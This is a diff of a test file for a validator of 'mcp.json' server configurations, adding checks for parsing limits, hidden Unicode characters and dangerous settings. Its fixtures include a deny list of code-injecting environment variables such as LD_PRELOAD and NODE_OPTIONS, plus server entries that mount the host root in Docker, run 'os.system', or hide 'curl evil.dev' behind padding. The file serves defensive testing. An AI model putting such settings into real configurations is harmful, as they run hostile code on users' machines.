@@ -51,21 +51,24 @@ describe('An mcp.json', () => {
       expect(findMcpProblems(filesOf(toText({}), path))).toEqual([
         { path, message: expect.stringContaining('Name it mcp.json') },
       ])
+    expect(findMcpProblems(filesOf('{"servers":{}}', 'MCP.json'))).toEqual([])
   })
 
   it.each([
-    ['text', 'not JSON'],
-    ['', 'not JSON'],
-    ['{"mcpServers": {},}', 'not JSON'],
-    ['\uFEFF{}', 'byte order mark'],
-    ['[]', 'must be a JSON object'],
-    ['null', 'must be a JSON object'],
-    ['"text"', 'must be a JSON object'],
+    [`# ${schema}`, 'not JSON'],
+    [`{"$schema":"${schema}","mcpServers":{},}`, 'not JSON'],
+    [`\uFEFF${toText({})}`, 'byte order mark'],
+    [`// one\n${toText({})}`, 'not JSON'],
+    [`${toText({}).replace('agent-', 'agent\\u002d')},`, 'not JSON'],
     [`{"$schema":"${schema}"}`, 'mcpServers: is missing.'],
-    ['['.repeat(200) + ']'.repeat(200), 'nests deeper'],
-    ['['.repeat(30_000), 'nests deeper'],
-    [`[${'{},'.repeat(15_000)}{}]`, 'more than 10000 values'],
-    [' '.repeat(70_000), 'larger than 64 KiB'],
+    [toText({}).replace('agent-plugins', 'agent\\u002Dplugins').replace('{}', '[]'), 'mcpServers: must be an object'],
+    [toText('['.repeat(200) + ']'.repeat(200)).replaceAll(/"(?=[[}])|(?<=])"/g, ''), 'nests deeper'],
+    [`["${schema}",${'{},'.repeat(15_000)}{}]`, 'more than 10000 values'],
+    [`${toText({})}${' '.repeat(70_000)}`, 'larger than 64 KiB'],
+    [JSON.stringify({ $schema: 'https://agent-plugins.org/schemas/2.0.0/mcp.json' }), '$schema: must be'],
+    [JSON.stringify({ $schema: [schema], mcpServers: {} }), '$schema: must be'],
+    [JSON.stringify({ $schema: schema.replace('https', 'http').replace('agent', 'Agent') }), '$schema: must be'],
+    [`{"$schema":"${schema}","$schema":"https://json.schemastore.org/x.json"}`, '"$schema" occurs twice'],
     [JSON.stringify({ $schema: schema.replace('1.0.0', '1.1.0'), mcpServers: {} }), `$schema: must be ${schema}`],
     [JSON.stringify({ $schema: `${schema}#`, mcpServers: {} }), '$schema: must be'],
     [toText([]), 'mcpServers: must be an object'],
@@ -76,7 +79,9 @@ describe('An mcp.json', () => {
   })
 
   it('is refused if it is not UTF-8', () => {
-    expect(problemOf(Uint8Array.of(0xff, 0xfe, 0x7b, 0))).toContain('not JSON')
+    const utf16 = Buffer.from(`\uFEFF${toText({})}`, 'utf16le')
+    for (const bytes of [utf16, utf16.swap16(), Buffer.concat([Buffer.from(toText({})), Buffer.of(0xff)])])
+      expect(problemOf(bytes)).toContain('not JSON')
     expect(findMcpProblems([{ path: 'mcp.json' }])[0]!.message).toContain('larger than 64 KiB')
   })
 
@@ -179,6 +184,14 @@ describe('An mcp.json', () => {
     ['too many arguments', 'mcpServers.tickets.args: has more than 64', { ...local, args: Array(65).fill('x') }],
     ['a long argument', 'mcpServers.tickets.args.0: is longer', { ...local, args: ['x'.repeat(2049)] }],
     ['a control character', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u001b[2K'] }],
+    ['a C1 control', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u009b2K'] }],
+    ['a line separator', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u2028b'] }],
+    ['a right-to-left mark', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u202Eb'] }],
+    ['a tag character', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u{E0041}'] }],
+    ['an invisible space', 'mcpServers.tickets.command: has control', { ...local, command: 'np\u200Bx' }],
+    ['a soft hyphen', 'mcpServers.tickets.env.A: has control', { ...local, env: { A: 'a\u00ADb' } }],
+    ['it in a URL', 'mcpServers.tickets.url: has control', { ...remote, url: 'https://ac\u00ADme.dev/' }],
+    ['it in a header', 'mcpServers.tickets.headers.A: has control', { ...remote, headers: { A: 'a\u00ADb' } }],
     ['a variable that clients expand', 'mcpServers.tickets.args.0: has a placeholder', { ...local, args: ['${HOME}'] }],
     ['a default value', 'mcpServers.tickets.env.A: has a placeholder', { ...local, env: { A: '${TOKEN:-x}' } }],
     ['variables as text', 'mcpServers.tickets.env: must be an object', { ...local, env: 'A=1' }],
@@ -205,14 +218,65 @@ describe('An mcp.json', () => {
     expect(serverProblem(server)).toContain(words)
   })
 
-  it('is only a file without `$schema`, as other clients write it: it has no servers, and its author is told', () => {
-    for (const text of ['{}', '{"mcpServers":{"a":{"command":"../x"}}}', '{"servers":{}}']) {
-      const files = [{ path: 'mcp.json', bytes: Buffer.from(text) }]
-      expect(findMcpProblems(files)).toEqual([])
-      expect(readMcpServers(files)).toEqual({})
-      expect(warnOfFiles(files)).toMatchObject([{ code: 'mcp_without_schema' }])
-    }
-    expect(warnOfFiles([{ path: 'mcp.json', bytes: Buffer.from(toText({})) }])).toEqual([])
+  it.each([
+    'LD_PRELOAD',
+    'LD_AUDIT',
+    'DYLD_INSERT_LIBRARIES',
+    'NODE_OPTIONS',
+    'node_options',
+    'PYTHONSTARTUP',
+    'BASH_ENV',
+    'ENV',
+    'PATH',
+    'PERL5OPT',
+    'RUBYOPT',
+    'JAVA_TOOL_OPTIONS',
+    '_JAVA_OPTIONS',
+    'GIT_SSH_COMMAND',
+  ])('may not set the variable %s, with which a program loads other code', (name) => {
+    const words = `mcpServers.tickets.env.${name}: changes what code a program loads`
+    expect(serverProblem({ ...local, env: { [name]: './x' } })).toContain(words)
+    expect(
+      serverProblem({ ...local, env: { [`X${name}`]: './x', [`${name}_X`.replace(/^(LD|DYLD)/, 'A')]: '' } }),
+    ).toBe(undefined)
+  })
+
+  it.each([
+    '{}',
+    '',
+    'text',
+    '[]',
+    'null',
+    '"text"',
+    `["${schema}"]`,
+    '{"mcpServers":{"a":{"command":"../x"}}}',
+    '{"servers":{}}',
+    '{"servers":{},}',
+    '// servers of VS Code\n{"servers":{"a":{"command":"npx"}}}',
+    '\uFEFF{"servers":{}}',
+    Buffer.from('\uFEFF{"servers":{}}', 'utf16le'),
+    Buffer.of(0xff, 0xfe, 0, 1),
+    '{"servers":{"constructor":{}}}',
+    `{"servers":{"constructor":{"url":"${schema}"}}}`,
+    '{"__proto__":{"$schema":"x"},"servers":{}}',
+    '{"servers":{},"servers":{}}',
+    '{"$schema":"https://json.schemastore.org/mcp.json","mcpServers":{}}',
+    '{"$schema":"https://acme.dev/mcp.schema.json","servers":{}}',
+    '{"$schema":"1","mcpServers":{}}',
+    '{"$schema":null}',
+    '['.repeat(30_000),
+    `[${'{},'.repeat(15_000)}{}]`,
+    `{"servers":{}}${' '.repeat(70_000)}`,
+  ])('without a `$schema` of Agent Plugins is only a file, without servers, and its author is told: %.60j', (text) => {
+    const files = filesOf(text)
+    expect(findMcpProblems(files)).toEqual([])
+    expect(readMcpServers(files)).toEqual({})
+    expect(warnOfFiles(files)).toMatchObject([{ code: 'mcp_without_schema' }])
+  })
+
+  it('of Agent Plugins has no warning', () => {
+    for (const text of [toText({}), '{"$schema":"https://agent-plugins.org/9"}', `# ${schema}`])
+      expect(warnOfFiles(filesOf(text))).toEqual([])
   })
 
   it('may not have names of servers that some client cannot use, nor very many', () => {
@@ -265,6 +329,27 @@ describe('A description of a server', () => {
     const host = `${'good.dev.'.repeat(8)}evil.dev`
     expect(describeMcpServer({ type: 'sse', url: `https://${host}/` })).toMatch(/^sse ….{30,40}evil\.dev$/)
     expect(describeMcpServer({ type: 1, command: {} })).toBe('')
+  })
+
+  it.each([
+    ['python3 -c "import os; os.system(1)"', { command: 'python3', args: ['-c', 'import os;\n\n  os.system(1)'] }],
+    ['docker run -v /:/host evil/img', { command: 'docker', args: ['run', '-v', '/:/host', 'evil/img'] }],
+    ['uvx evil-pkg; env A_KEY, B', { command: 'uvx', args: ['evil-pkg'], env: { A_KEY: 'secret', B: '' } }],
+    ['npx "" -y', { command: 'npx', args: ['', 1, '-y', {}] }],
+    ['npx', { command: 'npx', args: 'text', env: ['A'] }],
+  ])('shows the arguments and the names of variables: %s', (shown, server) => {
+    expect(describeMcpServer({ type: 'stdio', ...server })).toBe(`stdio ${shown}`)
+  })
+
+  it('shows both ends of a long command, and of many variables', () => {
+    const padded = {
+      type: 'stdio',
+      command: 'sh',
+      args: ['-c', `${' '.repeat(500)}${'true;'.repeat(90)}curl evil.dev`],
+    }
+    expect(describeMcpServer(padded)).toMatch(/^stdio sh -c " true;.{60,110}curl evil\.dev"$/)
+    const { length } = describeMcpServer({ ...padded, env: manyOf(64, 'x') })
+    expect(length).toBeLessThan(270)
   })
 })
 
